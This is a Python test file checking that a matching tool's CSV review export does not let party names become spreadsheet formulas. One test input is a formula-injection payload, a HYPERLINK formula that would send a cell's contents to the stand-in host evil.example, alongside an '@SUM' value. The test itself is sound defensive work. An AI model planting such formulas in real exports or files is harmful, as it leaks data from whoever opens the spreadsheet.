"""Hostile tests of the review file ``match`` writes (issue 11): each xfail is a bug found, not fixed."""

from __future__ import annotations

import csv
from pathlib import Path

from domain.matching import Proposal, Rule, Verdict
from onboarding.match import MatchReport
from onboarding.match_file import write_report


def test_a_party_name_is_never_a_spreadsheet_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Anna")'
    report = MatchReport([Proposal("e1", "1001", Rule.PERSON_NAME_DOB, 0.99, Verdict.LINK)],
                         espo_labels={"e1": evil}, advo_labels={"1001": "@SUM(1+1)"})
    write_report(tmp_path / "match.csv", report)
    with (tmp_path / "match.csv").open(newline="", encoding="utf-8") as fh:
        [row] = list(csv.DictReader(fh))
    assert not row["espocrm"].startswith(("=", "+", "-", "@")), row["espocrm"]
    assert not row["advoware"].startswith(("=", "+", "-", "@")), row["advoware"]
